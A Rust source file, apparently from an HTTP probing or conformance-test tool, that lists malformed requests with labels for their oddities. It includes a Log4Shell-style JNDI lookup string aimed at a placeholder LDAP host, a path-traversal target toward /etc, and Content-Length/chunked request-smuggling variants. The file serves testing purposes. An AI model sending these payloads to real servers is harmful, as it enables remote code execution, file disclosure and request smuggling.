//! The list: each odd request with its name, its template, its body, and the oddity that says so.

use super::Odd;

const NO: &str = "";
const HOST: &str = "Host: {h}\r\n";

/// All of them, numbered.
pub(crate) fn all() -> Vec<Odd> {
    let texts = [lines(), targets(), headers(), bodies()].concat();
    let of_text = |(what, head, body, oddity): (&'static str, String, &'static str, &'static str)| {
        (what, vec![(head.into_bytes(), body.as_bytes().to_vec())], oddity, "head")
    };
    let all = texts.into_iter().map(of_text).chain(octets());
    all.enumerate().map(|(number, (what, heads, oddity, part))| Odd { what, heads, oddity, part, number }).collect()
}

type Text = (&'static str, String, &'static str, &'static str);
type Octets = (&'static str, Vec<(Vec<u8>, Vec<u8>)>, &'static str, &'static str);

/// A good request line, host, and these lines.
fn with(lines: &str) -> String {
    format!("GET /{{t}} HTTP/1.1\r\n{HOST}{lines}\r\n")
}

fn post(lines: &str) -> String {
    format!("POST /{{t}} HTTP/1.1\r\n{HOST}{lines}\r\n")
}

/// A request line, host, nothing else.
fn line(line: &str) -> String {
    format!("{line}\r\n{HOST}\r\n")
}

//----------- Lines ------------------------------------------------------------------------------------------------

fn lines() -> Vec<Text> {
    vec![
        ("HTTP/0.9", "GET /{t}\r\n".into(), NO, NO),
        ("no version, and a method that HTTP/0.9 has not", line("POST /{t}"), NO, "http.version"),
        ("version 9.9", line("GET /{t} HTTP/9.9"), NO, "http.version"),
        ("another protocol's version", line("DESCRIBE /{t} RTSP/1.0"), NO, "http.version"),
        ("a version that is none", line("GET /{t} <<query-value|HTTP/1.1x>>"), NO, "http.target-space"),
        ("HTTP/2.0 without its preface", line("GET /{t} HTTP/2.0"), NO, "http.h2-preface"),
        ("a method in lower case", line("get /{t} HTTP/1.1"), NO, "http.method"),
        ("a method that nobody knows", line("BREW /{t} HTTP/1.1"), NO, "http.method"),
        ("the token as the method", line("{t} / HTTP/1.1"), NO, "http.method"),
        ("blanks and tabs in the request line", line("GET \t /{t}\t HTTP/1.1"), NO, NO),
        ("a blank behind the version", line("GET /{t} HTTP/1.1 "), NO, NO),
        ("empty lines in front", format!("\r\n\n\r\n{}", line("GET /{t} HTTP/1.1")), NO, "http.blank-first"),
        ("lines that end in LF", "GET /{t} HTTP/1.1\nHost: {h}\nX-Odd: {t}\n\n".into(), NO, "http.bare-lf"),
        ("lines that end in CR", "GET /{t} HTTP/1.1\rHost: {h}\rX-Odd: {t}\r\r".into(), NO, "http.bare-cr"),
        ("a head that is cut", "GET /{t} HTTP/1.1\r\nHost: {h}\r\nX-Odd: {t}".into(), NO, "http.head-incomplete"),
        ("a request line that is cut", "GET /{t}".into(), NO, "http.head-incomplete"),
    ]
}

fn targets() -> Vec<Text> {
    vec![
        ("a blank within the target", line("GET /{t} <<query-value|b.html c>> HTTP/1.1"), NO, "http.target-space"),
        ("a whole URL", line("GET http://<<user-info|bob:pw>>@{h}:80/{t} HTTP/1.1"), NO, "http.absolute-form"),
        ("CONNECT", line("CONNECT {t}.example:443 HTTP/1.1"), NO, "http.authority-form"),
        ("OPTIONS of everything", format!("OPTIONS * HTTP/1.1\r\n{HOST}X-Odd: {{t}}\r\n\r\n"), NO, NO),
        ("every octet of the path percent-coded", line("GET /{%t}/{t} HTTP/1.1"), NO, NO),
        ("out of the root", line("GET /../../%2e%2e/etc/{t} HTTP/1.1"), NO, NO),
        ("backslashes", line("GET \\{t}\\x HTTP/1.1"), NO, "http.target-form"),
        ("a query and a fragment", line("GET /{t}?q=<<query-value|7>>&r=<<query-value|8#9>> HTTP/1.1"), NO, NO),
        ("code for a logger", line("GET /${jndi:ldap://{t}.example/a} HTTP/1.1"), NO, NO),
    ]
}

fn headers() -> Vec<Text> {
    let many: String = (0..200).map(|number| format!("X-{number}: {{t}}\r\n")).collect();
    vec![
        ("a line that is continued", with("X-Odd: {t}\r\n\t <<header-token|and more>>\r\n"), NO, "http.obs-fold"),
        ("NUL within a header", with("X-Odd: a\0{t}\r\n"), NO, "http.control-byte"),
        ("a line without a colon", with("<<header-token|no colon>>\r\nX-Odd: {t}\r\n"), NO, "http.no-colon"),
        ("a blank before the colon", with("X-Odd : {t}\r\n"), NO, "http.space-before-colon"),
        ("a name that is none", with("<<header-token|X(Odd): a>>\r\nX-Odd: {t}\r\n"), NO, "http.header-name"),
        ("two hosts", with("Host: {t}.example\r\n"), NO, "http.repeated-host"),
        ("no host", "GET /{t} HTTP/1.1\r\n\r\n".into(), NO, "http.missing-host"),
        ("60 KB of one header", with(&format!("X-Odd: {}{{t}}\r\n", "a".repeat(60_000))), NO, NO),
        ("200 headers", with(&many), NO, "http.too-many-headers"),
        (
            "an upgrade to HTTP/2",
            with("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
            NO,
            "http.upgrade",
        ),
        (
            "a web socket",
            with("Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"),
            NO,
            "http.upgrade",
        ),
        ("an expectation that nobody has", with("Expect: {t}\r\n"), NO, "http.expectation"),
        ("order, case and blanks", with("x-oDD:{t}  \r\nACCEPT:\t*/*\r\nx-ODD:   {t}\t\r\n"), NO, NO),
    ]
}

fn bodies() -> Vec<Text> {
    vec![
        ("the length twice, alike", post("Content-Length: 3\r\nContent-Length: 3\r\n"), "a=b", "http.length-repeated"),
        ("two lengths", post("Content-Length: 3\r\nContent-Length: 4\r\n"), "a=b", "http.length"),
        ("a negative length", post("Content-Length: -5\r\n"), "a=b", "http.length"),
        ("a length of 2^64", post("Content-Length: 18446744073709551616\r\n"), "a=b", "http.length"),
        ("a length of 2^63 and a body that stops", post("Content-Length: 9223372036854775808\r\n"), "a=b", NO),
        ("a length with a sign", post("Content-Length: +3\r\n"), "a=b", "http.length"),
        (
            "length and chunks together",
            post("Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"),
            "3\r\na=b\r\n0\r\n\r\n",
            "http.length-and-encoding",
        ),
        (
            "chunks with extensions and trailers",
            post("Transfer-Encoding: chunked\r\nTrailer: X-End\r\n"),
            "3;x=y\r\na=b\r\n0\r\nX-End: 1\r\n\r\n",
            NO,
        ),
        ("a chunk of no size", post("Transfer-Encoding: chunked\r\n"), "zz\r\na=b\r\n", NO),
        ("a coding that nobody has", post("Transfer-Encoding: x{t}, chunked\r\n"), NO, "http.transfer-encoding"),
        (
            "chunks in HTTP/1.0",
            format!("POST /{{t}} HTTP/1.0\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n"),
            "0\r\n\r\n",
            "http.transfer-encoding-version",
        ),
        ("leave to go on", post("Expect: 100-continue\r\nContent-Length: 3\r\n"), "a=b", NO),
        ("a body that stops", post("Content-Length: 300\r\n"), "a=b", NO),
        (
            "WebDAV with a body",
            format!("PROPFIND /{{t}} HTTP/1.1\r\n{HOST}Depth: 1\r\nContent-Length: 11\r\n\r\n"),
            "<propfind/>",
            NO,
        ),
        ("GET with a body", with("Content-Length: 3\r\n"), "a=b", NO),
    ]
}

//----------- Octets -----------------------------------------------------------------------------------------------

fn octets() -> Vec<Octets> {
    let high = [b"GET /\xff\xfe\x80{t} HTTP/1.1\r\n", HOST.as_bytes(), b"X-Odd: \xe4\xf6{t}\r\n\r\n"].concat();
    let three = |name: &str| (format!("GET /{{t}}/{name} HTTP/1.1\r\n{HOST}\r\n").into_bytes(), Vec::new());
    let odd_preface = b"PRI * HTTP/2.0\r\nX-Odd: {t}\r\n\r\n".to_vec();
    vec![
        ("octets above 127", vec![(high, Vec::new())], NO, "head"),
        ("three at once", ["one", "two", "three"].map(three).to_vec(), NO, "head"),
        ("the preface of HTTP/2 with a header in it", vec![(odd_preface, Vec::new())], "http.h2-preface", "head"),
        ("TLS on the port for plain HTTP", vec![(hello(), Vec::new())], "trap.tls-on-plain-port", "hello"),
    ]
}

/// A ClientHello of TLS 1.2 (RFC 5246, 7.4.1.2) whose server name is the token.
fn hello() -> Vec<u8> {
    // As long as any token's name.
    const NAME: &[u8] = b"{t}.example";
    const NAME_OCTETS: u8 = 9 + 8;
    let name = [&[0, 0, 0, NAME_OCTETS + 5, 0, NAME_OCTETS + 3, 0, 0, NAME_OCTETS], NAME].concat();
    let extensions = NAME_OCTETS + 9;
    let body = [&[3, 3], &[7; 32][..], &[0, 0, 2, 0xc0, 0x2b, 1, 0, 0, extensions], &name].concat();
    let octets = 2 + 32 + 9 + extensions;
    [&[0x16, 3, 1, 0, octets + 4, 1, 0, 0, octets][..], &body].concat()
}
